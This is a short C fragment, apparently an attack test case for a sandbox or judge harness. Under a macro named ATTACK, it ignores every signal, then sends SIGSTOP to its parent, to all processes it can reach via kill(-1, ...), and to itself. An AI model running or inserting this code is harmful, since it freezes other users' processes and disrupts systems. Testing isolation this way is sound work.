/* stops its launcher and itself, and hears no signal */
ATTACK
{
    for (int s = 1; s < 65; s++) {
        signal(s, SIG_IGN);
    }
    kill(getppid(), SIGSTOP);
    kill(-1, SIGSTOP);
    raise(SIGSTOP);
}
